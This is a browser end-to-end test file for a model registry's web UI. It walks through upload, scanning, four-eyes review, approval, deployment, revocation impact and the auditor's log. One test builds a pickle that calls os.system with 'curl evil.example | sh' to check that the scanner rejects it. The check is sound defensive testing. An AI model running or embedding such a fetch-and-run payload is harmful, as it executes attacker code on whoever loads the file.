import { buildSafetensors } from '../../src/formats/safetensors/builder.js';
import { llama } from '../app/lineage/models.js';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page, Response } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, type RunningServer } from '../../src/server/index.js';
import { launchChromiumForSite, type SiteBrowser } from '../helpers/browser-site.js';
import { osSystemPickle } from '../helpers/pickles.js';
import { until } from '../helpers/registry.js';

/*
 * The registry's web UI as people use it: a real server on a free port, Debian's Chromium, and
 * one model's way from alice's upload through four-eyes review and approval, deployment, a
 * derived model, revocation and its blast radius, to the auditor's hash-chain check.
 * MODELGATE_SCREENSHOTS=1 writes the README's pictures to docs/screenshots/.
 */

const ADMIN = 'mg_admin-token-for-the-ui-test';
const SHOTS = process.env.MODELGATE_SCREENSHOTS === '1';
const SHOT_DIR = fileURLToPath(new URL('../../docs/screenshots/', import.meta.url));
/** A small upload limit, so that the test can go past it. */
const MAX_FILE_BYTES = 1024 * 1024;
/** Small trained-looking weights: the base model's, repackaged as they are in its export. */
const WEIGHTS = buildSafetensors({ tensors: llama({ layers: 1, seed: 'acme-bert' }) });
const CONFIG = JSON.stringify({ architectures: ['BertModel'], model_type: 'bert', hidden_size: 768 }, null, 2);

let server: RunningServer;
let dataDir: string;
let browser: SiteBrowser;
let page: Page;
const tokens: Record<string, string> = {};
/** Console errors and CSP violations of every page: a page the CSP breaks says so here. */
const problems: string[] = [];
const ids: Record<string, string> = {};

async function api(path: string, body: unknown): Promise<unknown> {
  const res = await fetch(server.url + path, {
    method: 'POST',
    headers: { authorization: `Bearer ${ADMIN}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  expect(res.status).toBe(201);
  return res.json();
}

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'mg-ui-browser-'));
  server = await startServer({ port: 0, dataDir, adminToken: ADMIN, maxFileBytes: MAX_FILE_BYTES });
  const people: Record<string, string[]> = {
    // alice is on a team where she may also review and approve: four-eyes must still stop her on her own submission.
    alice: ['submitter', 'reviewer', 'approver'],
    bob: ['reviewer'],
    carol: ['approver'],
    dave: ['approver'],
    erin: ['auditor'],
  };
  for (const [principal, roles] of Object.entries(people)) tokens[principal] = ((await api('/api/tokens', { principal, roles })) as { token: string }).token;
  browser = await launchChromiumForSite(new URL(server.url).origin, { viewport: { width: 1280, height: 800 } });
  page = await browser.context.newPage();
  page.on('console', (m) => {
    // The refusals the test provokes (401, 403, 413) are logged as failed loads: expected, not problems.
    if ((m.type() === 'error' || m.type() === 'warning') && !/^Failed to load resource: .* status of 4(01|03|13)\b/.test(m.text())) problems.push(m.text());
  });
  page.on('pageerror', (e) => problems.push(e.message));
  if (SHOTS) mkdirSync(SHOT_DIR, { recursive: true });
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

async function shot(name: string, scrollTo?: string): Promise<void> {
  if (!SHOTS) return;
  if (scrollTo) await page.locator(scrollTo).evaluate((el) => el.scrollIntoView({ block: 'start' }));
  else await page.evaluate(() => window.scrollTo(0, 0));
  await page.screenshot({ path: join(SHOT_DIR, `${name}.png`) });
}

async function login(who: string): Promise<void> {
  await page.goto(`${server.url}/`);
  expect(new URL(page.url()).pathname).toBe('/login');
  await page.getByLabel('Registry token').fill(tokens[who]!);
  await page.getByRole('button', { name: 'Log in' }).click();
  await expect.poll(() => page.locator('nav .who').textContent()).toContain(who);
}

async function logout(): Promise<void> {
  await page.getByRole('button', { name: 'Log out' }).click();
  await page.waitForURL(/\/login$/);
}

/** Clicks a button of one of the version page's action forms and returns the answer to its post. */
async function act(action: string, button: string, fields: Record<string, string> = {}): Promise<Response> {
  const form = page.locator(`form[data-action="${action}"]`);
  for (const [name, value] of Object.entries(fields)) await form.locator(`[name="${name}"]`).fill(value);
  const [response] = await Promise.all([
    page.waitForResponse((r) => r.request().method() === 'POST' && new URL(r.url()).pathname.endsWith(`/${action}`)),
    form.getByRole('button', { name: button }).click(),
  ]);
  await page.waitForLoadState();
  return response;
}

async function openVersion(id: string): Promise<void> {
  await page.goto(`${server.url}/versions/${id}`);
}

/** Submits files through the upload form and waits on the version page until the scan has judged them. */
async function submit(model: string, files: Record<string, Buffer | string>, shotName?: string): Promise<string> {
  await page.getByRole('link', { name: 'Submit' }).click();
  const form = page.locator('form#upload');
  await form.getByLabel('Model id').fill(model);
  await form.getByLabel('Owner', { exact: true }).fill('ml-platform');
  await form.getByLabel('Business owner').fill('search');
  await form
    .locator('input[type=file]')
    .setInputFiles(Object.entries(files).map(([name, bytes]) => ({ name, mimeType: 'application/octet-stream', buffer: Buffer.from(bytes) })));
  if (shotName) await shot(shotName);
  await form.getByRole('button', { name: 'Upload and scan' }).click();
  await page.waitForURL(/\/versions\/[0-9a-f-]{36}\?done=submitted$/);
  const id = /\/versions\/([0-9a-f-]{36})/.exec(page.url())![1]!;
  await until(server.registry, id, ['review', 'rejected']);
  await openVersion(id);
  return id;
}

describe('the registry web UI in Chromium', () => {
  it('sends a visitor without a session to the login page, which refuses an unknown token', async () => {
    await page.goto(`${server.url}/audit`);
    expect(new URL(page.url()).pathname).toBe('/login');
    await page.getByLabel('Registry token').fill('mg_not-a-token');
    const [response] = await Promise.all([page.waitForResponse((r) => r.request().method() === 'POST'), page.getByRole('button', { name: 'Log in' }).click()]);
    expect(response.status()).toBe(401);
    await expect.poll(() => page.getByRole('alert').textContent()).toContain('unknown or revoked');
    await shot('01-login');
  });

  it('alice submits a clean model by upload; it is scanned and waits for review; four-eyes refuses her own review', async () => {
    await login('alice');
    ids.bert = await submit(
      'acme/bert',
      { 'config.json': CONFIG, 'model.safetensors': WEIGHTS, 'README.md': '---\nlicense: apache-2.0\n---\n# acme/bert\n' },
      '02-submit',
    );
    expect(await page.locator('p.status .badge').first().textContent()).toBe('review');
    expect(await page.locator('#files').textContent()).toMatch(/config\.json[\s\S]*[0-9a-f]{64}/);
    expect(await page.locator('#history').textContent()).toContain('scanned: clean, low risk');
    await shot('03-version-review');
    const refused = await act('review', 'Accept for approval');
    expect(refused.status()).toBe(403);
    expect(await page.getByRole('alert').textContent()).toContain('four-eyes: alice submitted this version and cannot review it');
    await shot('04-four-eyes');
    await logout();
  });

  it('bob accepts it for approval; alice may not approve her own; carol approves and the evidence downloads with the cookie', async () => {
    await login('bob');
    await openVersion(ids.bert!);
    const accepted = await act('review', 'Accept for approval', { reason: 'card and config read' });
    expect(accepted.status()).toBe(303);
    expect(await page.getByRole('status').textContent()).toContain('goes on to approval');
    await logout();

    await login('alice');
    await openVersion(ids.bert!);
    const refused = await act('approve', 'Approve');
    expect(refused.status()).toBe(403);
    expect(await page.getByRole('alert').textContent()).toContain('four-eyes: alice submitted this version and cannot approve it');
    await logout();

    await login('carol');
    await openVersion(ids.bert!);
    await act('approve', 'Approve', { reason: 'low risk, clean' });
    expect(await page.locator('p.status .badge').first().textContent()).toBe('approved');
    const evidence = page.locator('#evidence a');
    expect(await evidence.allTextContents()).toEqual(expect.arrayContaining(['bom', 'report']));
    const bom = await page.request.get(`${server.url}/versions/${ids.bert}/evidence/bom`);
    expect(bom.status()).toBe(200);
    expect(bom.headers()['content-disposition']).toContain(`${ids.bert}.bom.json`);
    expect((await bom.json()).bomFormat).toBe('CycloneDX');
    expect((await fetch(`${server.url}/api/versions/${ids.bert}/attestations/bom`)).status).toBe(401);
    await logout();
  });

  it('alice deploys it, then submits a fine-tune declaring it as base_model, which is approved and deployed too', async () => {
    await login('alice');
    await openVersion(ids.bert!);
    await act('deploy', 'Record deployment', { environment: 'prod-eu', owner: 'search-team', business_owner: 'web search' });
    expect(await page.locator('#deployments').textContent()).toContain('prod-eu');
    ids.child = await submit('acme/bert-ft', {
      'config.json': CONFIG,
      'README.md': '---\nbase_model: acme/bert\nbase_model_relation: finetune\n---\n# fine-tuned on support tickets\n',
    });
    // An export repackaging the same weights: the pipeline verifies its declared base by the shared blob.
    ids.onnx = await submit('acme/bert-onnx', {
      'config.json': CONFIG,
      'model.safetensors': WEIGHTS,
      'README.md': '---\nbase_model: acme/bert\nbase_model_relation: quantized\n---\n# acme/bert exported\n',
    });
    await logout();
    await login('bob');
    await openVersion(ids.child);
    await act('review', 'Accept for approval');
    await logout();
    await login('carol');
    await openVersion(ids.child);
    await act('approve', 'Approve');
    await act('deploy', 'Record deployment', { environment: 'prod-us', owner: 'support-team', business_owner: 'customer care' });
    // The child's page draws its declared parent to its left (no version matched: nothing in the bytes), joined by a dashed arrow.
    const parentBox = page.locator('#lineage svg g.node.external', { hasText: 'no version matched' }).locator('rect');
    const childBox = page.locator('#lineage svg a.node.root rect');
    expect(Number(await parentBox.getAttribute('x'))).toBeLessThan(Number(await childBox.getAttribute('x')));
    expect(await page.locator('#lineage svg path.edge.declared').count()).toBe(2); // the edge and the legend's
  });

  it('carol revokes the base model: the child and both deployments are flagged, on the version page and the impact page', async () => {
    await openVersion(ids.bert!);
    const revoked = await act('revoke', 'Revoke and flag descendants', { reason: 'backdoor reported upstream' });
    expect(revoked.status()).toBe(303);
    expect(await page.locator('p.status .badge').first().textContent()).toBe('revoked');
    expect(await page.locator('#deployments').textContent()).toContain('flagged');
    expect(await page.locator('#lineage svg a.node').count()).toBe(3);
    expect(await page.locator('#lineage svg .edge.verified').count()).toBe(2); // the edge and the legend's
    await shot('05-version-revoked', '#lineage');

    await page.getByRole('link', { name: 'impact of acme/bert' }).click();
    expect(await page.locator('h1').textContent()).toContain('Impact of acme/bert');
    const versions = await page.locator('#versions').textContent();
    expect(versions).toContain('acme/bert-ft');
    const deployments = page.locator('#deployments tbody tr');
    expect(await deployments.count()).toBe(2);
    expect(await deployments.locator('.badge.flagged').count()).toBe(2);
    expect(await page.locator('#deployments').textContent()).toMatch(/prod-eu[\s\S]*direct[\s\S]*prod-us[\s\S]*derived/);
    expect(await page.locator('#incidents tbody tr').count()).toBe(4);
    await shot('06-impact');

    await page.getByRole('link', { name: 'Inventory' }).click();
    await page.getByPlaceholder('Search models by id').fill('bert');
    await page.getByRole('button', { name: 'Search' }).click();
    expect(await page.locator(`tr[data-version="${ids.bert}"]`).textContent()).toContain('revoked');
    expect(await page.locator(`tr[data-version="${ids.child}"] .badge.flagged`).textContent()).toBe('1 flagged');
    await shot('07-inventory');
    await logout();
  });

  it('a pickle that runs os.system is rejected by the scan, its decompiled call shown as evidence', async () => {
    await login('alice');
    ids.evil = await submit('mallory/resnet', { 'pytorch_model.bin': osSystemPickle('curl evil.example | sh') });
    expect(await page.locator('p.status .badge').first().textContent()).toBe('rejected');
    const findings = await page.locator('#findings').textContent();
    expect(findings).toContain('os.system');
    expect(findings).toContain('curl evil.example | sh');
    await shot('08-findings', '#findings');
    await logout();
  });

  it('an upload over the size limit is refused with a page saying so, not a broken connection', async () => {
    await login('alice');
    await page.getByRole('link', { name: 'Submit' }).click();
    const form = page.locator('form#upload');
    await form.getByLabel('Model id').fill('acme/huge');
    await form
      .locator('input[type=file]')
      .setInputFiles([{ name: 'weights.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(MAX_FILE_BYTES * 3) }]);
    const [response] = await Promise.all([
      page.waitForResponse((r) => r.request().method() === 'POST'),
      form.getByRole('button', { name: 'Upload and scan' }).click(),
    ]);
    expect(response.status()).toBe(413);
    expect(await page.getByRole('alert').textContent()).toContain(`more than ${MAX_FILE_BYTES} bytes`);
    await logout();
  });

  it('erin the auditor reads the audit log, whose hash chain is valid; she cannot submit', async () => {
    await login('erin');
    await page.getByRole('link', { name: 'Audit log' }).click();
    expect(await page.locator('#chain h2').textContent()).toContain('valid');
    const actions = await page.locator('tbody td:nth-child(4)').allTextContents();
    expect(actions).toEqual(expect.arrayContaining(['version.revoked', 'version.approved', 'deployment.create', 'version.submit']));
    await shot('09-audit');
    const forbidden = await page.goto(`${server.url}/submit`);
    expect(forbidden?.status()).toBe(403);
    await logout();
  });

  it('logged no console error and no CSP violation on any page, and asked for nothing outside the site', () => {
    expect(problems).toEqual([]);
    expect(browser.blocked).toEqual([]);
  });
});
